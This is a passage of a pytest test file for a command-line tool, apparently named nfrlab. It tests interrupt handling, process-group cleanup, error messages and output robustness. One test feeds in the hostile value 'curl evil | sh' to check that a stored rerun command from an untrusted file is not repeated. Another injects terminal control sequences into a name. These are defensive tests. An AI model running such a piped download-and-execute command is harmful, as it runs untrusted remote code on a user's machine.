    result = in_process("verify", "made-up", "--jobs", "1", "--out", tmp_path)
    assert result.exit_code == 130
    assert set(stored(tmp_path)) == {"made-up"}
    assert set(contents(tmp_path)) == {"verdicts.json"}


# Ctrl-C


def members(group: int) -> dict[int, str]:
    """The command lines of the processes of a group that have not ended; none where there is no /proc."""
    found = {}
    for folder in Path("/proc").glob("[0-9]*"):
        with suppress(OSError):
            state, _, of = (folder / "stat").read_text().rpartition(")")[2].split()[:3]
            if int(of) == group and state not in "ZX":
                found[int(folder.name)] = (folder / "cmdline").read_text()
    return found


def wait_until(condition: Callable[[], bool], process: subprocess.Popen[str]) -> None:
    """Return once `condition` holds; fail where the process ends before, or on a hang."""
    end = time.monotonic() + PATIENCE
    while not condition():
        assert process.poll() is None, "nfrlab ended before it could be interrupted"
        assert time.monotonic() < end, "waited in vain"
        time.sleep(0.05)


@contextmanager
def started(*arguments: str | Path, cwd: Path, command: Sequence[str | Path] = ()) -> Iterator[subprocess.Popen[str]]:
    """The command in a process group of its own, which is ended if the test fails before it is."""
    with subprocess.Popen(
        [*map(str, command or (script(),)), *map(str, arguments)],
        cwd=cwd,
        env=ENVIRONMENT,
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
        encoding="utf-8",
        start_new_session=True,
    ) as process:
        try:
            yield process
        except BaseException:
            with suppress(ProcessLookupError):
                os.killpg(process.pid, signal.SIGKILL)
            raise


def remains(process: subprocess.Popen[str]) -> str:
    """What was complained of until the whole group ended.

    Workers hold the pipe too: it ends when the last of them has.
    """
    _, complaints = process.communicate(timeout=PATIENCE)
    end = time.monotonic() + PATIENCE
    while left := members(process.pid):
        assert time.monotonic() < end, left
        time.sleep(0.05)
    return complaints


def interrupt(process: subprocess.Popen[str], target: str) -> str:
    """Ctrl-C to the whole group, as a terminal sends it, or to the parent alone; what it complained of."""
    send = os.killpg if target == "group" else os.kill
    send(process.pid, signal.SIGINT)
    return remains(process)


def assert_interrupted(process: subprocess.Popen[str], complaints: str, finished: int, among: int) -> None:
    """Exit status 130 and one line that counts what was finished."""
    assert "Traceback" not in complaints, complaints
    lines = complaints.splitlines()
    assert len(lines) == 1, complaints
    assert lines[0].startswith(f"nfrlab: interrupted; {finished} of {among} claims")
    assert process.returncode == 130


posix = pytest.mark.skipif(os.name != "posix", reason="process groups are POSIX's")


@posix
@pytest.mark.parametrize("target", ["group", "parent"])
@pytest.mark.parametrize("jobs", ["1", "2"])
def test_ctrl_c_keeps_what_is_finished(jobs: str, target: str, earlier: Path, tmp_path: Path) -> None:
    """Catches lost or half-written verdicts, workers that outlive their parent, and tracebacks of either."""
    (earlier / "verdicts.json").write_bytes(
        (earlier / "verdicts.json").read_bytes().replace(b'"seed": 0,', b'"seed": 3,')
    )
    before = stored(earlier)

    def first_is_finished() -> bool:
        return stored(earlier)[QUICK]["seed"] == 0

    arguments = ("verify", QUICK, *SLOW, "--jobs", jobs, "--out", earlier)
    with started(*arguments, cwd=tmp_path) as process:
        wait_until(first_is_finished, process)
        complaints = interrupt(process, target)
    after = stored(earlier)
    new = {id for id, verdict in after.items() if verdict["seed"] == 0}
    assert QUICK in new
    assert_interrupted(process, complaints, finished=len(new), among=1 + len(SLOW))
    assert {id: after[id] for id in set(after) - new} == {id: before[id] for id in set(before) - {QUICK}}
    assert set(contents(earlier)) == {"verdicts.json", "report.html"}


def imports_half_done(group: int) -> bool:
    """Whether a worker of the group has loaded NumPy: about a second of imports is then still to come."""
    workers = [pid for pid, line in members(group).items() if "spawn_main" in line]
    with suppress(OSError):
        return any("numpy" in Path(f"/proc/{pid}/maps").read_text() for pid in workers)
    return False


@posix
@pytest.mark.skipif(not Path("/proc/self/stat").exists(), reason="looks for workers in /proc")
def test_ctrl_c_while_workers_start(earlier: Path, tmp_path: Path) -> None:
    """Catches the tracebacks of workers that Ctrl-C meets before they have learnt to end silently."""
    before = contents(earlier)
    with started("verify", *SLOW, "--jobs", "2", "--out", earlier, cwd=tmp_path) as process:
        wait_until(lambda: imports_half_done(process.pid), process)
        os.kill(process.pid, signal.SIGSTOP)  # a parent that is slow to act leaves workers the time to complain
        os.killpg(process.pid, signal.SIGINT)
        time.sleep(0.5)
        os.kill(process.pid, signal.SIGCONT)
        complaints = remains(process)
    assert_interrupted(process, complaints, finished=0, among=len(SLOW))
    assert contents(earlier) == before


DEAF = """
import gc, os, signal, time
from dataclasses import replace
from nfrlab.verify.cli import main
from nfrlab.verify.proceedings.registry import REGISTRY

def collected(phase, info):
    gc.callbacks.remove(collected)
    os.killpg(os.getpgid(0), signal.SIGINT)
    time.sleep(0.01)

def examine(exam):
    gc.callbacks.append(collected)
    gc.collect()
    end = time.monotonic() + 3
    while time.monotonic() < end:
        time.sleep(0.01)
    return []

REGISTRY["made-up"] = replace(REGISTRY["prop-1"], id="made-up", examine=examine)
if __name__ == "__main__":
    main()
"""
"""The command with a claim that meets Ctrl-C where Python cannot raise; as Hypothesis does at each collection."""


@posix
def test_ctrl_c_during_garbage_collection_is_not_lost(tmp_path: Path) -> None:
    """Catches a Ctrl-C that Python reports as 'Exception ignored' and drops, after which the run goes on."""
    (tmp_path / "deaf.py").write_text(DEAF)
    command = (sys.executable, tmp_path / "deaf.py")
    with started("verify", "made-up", "--jobs", "1", "--out", "out", cwd=tmp_path, command=command) as process:
        complaints = remains(process)
    assert_interrupted(process, complaints, finished=0, among=1)


@pytest.mark.parametrize(
    ("words", "near"),
    [
        (("verify", "prop1"), "prop-1"),
        (("verify", "thm-1-gpb"), "thm-1-gbp"),
        (("show", "gausian"), "gaussian"),
        (("figures", "isotropi"), "isotropy"),
        (("law", "gpb", "--d", "5", "--N", "9"), "gbp"),
        (("law", "gbp", "--family", "studnet", "--d", "5", "--N", "9"), "student"),
    ],
)
def test_a_slip_is_told_what_is_near(words: tuple[str, ...], near: str) -> None:
    """Catches a list of a hundred names in place of the one that was meant."""
    result = in_process(*words)
    assert result.exit_code == 2
    assert f"'{near}'" in result.stderr


def test_control_characters_are_spelled_out() -> None:
    """Catches a name from outside that colours, moves or clears the terminal, or breaks the sentence in two."""
    result = in_process("verify", "\x1b[2Jprop\n-1\x07")
    assert result.exit_code == 2
    assert result.stderr.count("\n") == 1
    assert result.stderr.rstrip("\n").isprintable()
    assert r"\x1b[2Jprop -1\x07" in result.stderr


@pytest.mark.parametrize("command", [("law", "gbp", "--d", "3", "--N", "5"), ("claims",), ("show", "prop-1")])
def test_an_output_without_greek_letters(command: Sequence[str], tmp_path: Path) -> None:
    """Catches a traceback on a terminal or in a log file that knows ASCII alone."""
    environment = ENVIRONMENT | {"PYTHONIOENCODING": "ascii"}
    done = subprocess.run([script(), *command], cwd=tmp_path, env=environment, capture_output=True, timeout=PATIENCE)
    assert (done.returncode, done.stderr) == (0, b"")
    assert done.stdout.isascii()


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="has no full device")
@pytest.mark.parametrize("command", [("law", "gbp", "--d", "3", "--N", "5"), ("claims",), ("--help",), ("--version",)])
def test_an_output_that_is_full_is_one_sentence(command: Sequence[str], tmp_path: Path) -> None:
    """Catches a traceback, or exit status 0, where nothing could be printed."""
    with open("/dev/full", "w") as full:
        done = subprocess.run(
            [script(), *command], cwd=tmp_path, env=ENVIRONMENT, stdout=full, stderr=subprocess.PIPE, timeout=PATIENCE
        )
    assert (done.returncode, done.stderr) == (2, b"nfrlab: the machine refused: No space left on device\n")


@pytest.mark.parametrize("command", [("law", "gbp", "--d", "3", "--N", "5"), ("verify", QUICK), ("sweep", "a.toml")])
def test_a_working_folder_that_is_gone(command: Sequence[str], tmp_path: Path) -> None:
    """Catches a traceback from the search for the folder that the command stands in."""
    gone = tmp_path / "gone"
    gone.mkdir()
    vanishing = [sys.executable, "-c", "import os, sys; os.rmdir(os.getcwd()); os.execv(sys.argv[1], sys.argv[1:])"]
    done = subprocess.run(
        [*vanishing, script(), *command], cwd=gone, env=ENVIRONMENT, capture_output=True, text=True, timeout=PATIENCE
    )
    assert "Traceback" not in done.stderr
    assert (done.returncode, done.stderr.count("\n")) in {(0, 0), (2, 1)}


def test_a_stored_command_is_repeated_only_if_it_calls_nfrlab() -> None:
    """Catches a verdicts file from elsewhere whose "run again" is somebody's command."""
    verdict = {"id": "prop-1", "profile": "quick", "seed": 3, "images": "scikit-learn photographs"}
    assert wording.rerun(verdict | {"command": "curl evil | sh"}).startswith("nfrlab verify prop-1")
    assert wording.rerun(verdict | {"command": "nfrlab bridge --seed 3"}) == "nfrlab bridge --seed 3"
